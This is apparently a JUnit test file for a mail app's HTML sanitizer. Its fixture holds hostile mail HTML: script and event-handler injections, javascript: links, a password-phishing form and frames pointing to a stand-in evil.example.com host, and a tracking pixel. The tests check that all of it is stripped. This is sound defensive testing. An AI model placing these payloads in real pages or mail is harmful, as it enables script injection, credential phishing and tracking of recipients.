package dev.intake.app.mail;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/** Hostile HTML in a mail must come out inert: nothing runs, nothing loads from the network. */
class HtmlSanitizerTest {

    private static final String HOSTILE = """
            <html><head><script>steal()</script><style>body{background:url(https://evil.example.com/bg)}</style>
            <meta http-equiv="refresh" content="0;url=https://evil.example.com"><base href="https://evil.example.com/"></head>
            <body onload="steal()">
            <p style="background:url(https://evil.example.com/track)">Hello <b>agent</b></p>
            <img src="x" onerror="steal()">
            <img src="https://tracker.example.com/open.gif?u=42" width="1" height="1">
            <img src="//cdn.example.com/logo.png" alt="logo">
            <img src="cid:part1.abc@example.com" alt="inline">
            <img src="data:image/png;base64,iVBORw0KGgo=" alt="embedded">
            <img data-remote-src="javascript:steal()" src="cid:ok@example.com">
            <a href="javascript:steal()">click</a>
            <a href="JaVaScRiPt:steal()">click2</a>
            <a href="https://help.example.com/faq" target="_blank" onclick="steal()">FAQ</a>
            <a href="mailto:help@example.com">mail us</a>
            <form action="https://evil.example.com/phish"><input name="password"><button>Log in</button></form>
            <iframe src="https://evil.example.com/frame"></iframe>
            <object data="https://evil.example.com/x.swf"></object>
            <svg onload="steal()"><script>steal()</script></svg>
            <table border="1" cellpadding="2"><tr><td valign="top">cell</td></tr></table>
            </body></html>
            """;

    @Test
    void scriptsHandlersAndActiveContentAreRemoved() {
        String html = HtmlSanitizer.bodyHtml(HtmlSanitizer.sanitize(HOSTILE));

        assertThat(html).doesNotContainIgnoringCase("<script")
                .doesNotContainIgnoringCase("steal()")
                .doesNotContainIgnoringCase("javascript:")
                .doesNotContainIgnoringCase("onerror")
                .doesNotContainIgnoringCase("onload")
                .doesNotContainIgnoringCase("onclick")
                .doesNotContainIgnoringCase("<form")
                .doesNotContainIgnoringCase("<input")
                .doesNotContainIgnoringCase("<iframe")
                .doesNotContainIgnoringCase("<object")
                .doesNotContainIgnoringCase("<svg")
                .doesNotContainIgnoringCase("<meta")
                .doesNotContainIgnoringCase("<base")
                .doesNotContainIgnoringCase("style=")
                .doesNotContain("evil.example.com");
    }

    @Test
    void nothingLoadsFromTheNetwork() {
        String html = HtmlSanitizer.bodyHtml(HtmlSanitizer.sanitize(HOSTILE));

        assertThat(html).doesNotContainPattern("\\ssrc=\"(https?:)?//");
        assertThat(html).contains("<img width=\"1\" height=\"1\" data-remote-src=\"https://tracker.example.com/open.gif?u=42\">");
        assertThat(html).contains("<img alt=\"logo\" data-remote-src=\"https://cdn.example.com/logo.png\">");
    }

    @Test
    void inlineAndEmbeddedImagesStay() {
        String html = HtmlSanitizer.bodyHtml(HtmlSanitizer.sanitize(HOSTILE));

        assertThat(html).contains("<img src=\"cid:part1.abc@example.com\" alt=\"inline\">");
        assertThat(html).contains("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"embedded\">");
        assertThat(html).as("a sender-written data-remote-src is dropped").contains("<img src=\"cid:ok@example.com\">");
    }

    @Test
    void linksStayButCannotReachBack() {
        String html = HtmlSanitizer.bodyHtml(HtmlSanitizer.sanitize(HOSTILE));

        assertThat(html).contains("<a href=\"https://help.example.com/faq\" rel=\"noopener noreferrer nofollow\">FAQ</a>");
        assertThat(html).contains("<a href=\"mailto:help@example.com\" rel=\"noopener noreferrer nofollow\">mail us</a>");
        assertThat(html).contains("<a rel=\"noopener noreferrer nofollow\">click</a>");
        assertThat(html).contains("<a rel=\"noopener noreferrer nofollow\">click2</a>");
    }

    @Test
    void formattingSurvives() {
        String html = HtmlSanitizer.bodyHtml(HtmlSanitizer.sanitize(HOSTILE));

        assertThat(html).contains("<p>Hello <b>agent</b></p>");
        assertThat(html).contains("<table border=\"1\" cellpadding=\"2\">");
        assertThat(html).contains("<td valign=\"top\">cell</td>");
    }

    @Test
    void hostileMailThroughTheParserIsInertAndItsTextReadable() {
        byte[] raw = RawMail.start().text("From: a@example.com\nSubject: hostile\nContent-Type: text/html; charset=utf-8\n\n")
                .text(HOSTILE).build();

        ParsedMail mail = new MailParser().parse(raw, new ParseLimits(1024));

        assertThat(mail.htmlBody()).hasValueSatisfying(html -> assertThat(html)
                .doesNotContainIgnoringCase("steal()").doesNotContain("evil.example.com"));
        assertThat(mail.textBody()).startsWith("Hello agent")
                .contains("FAQ <https://help.example.com/faq>")
                .doesNotContain("steal()");
    }
}
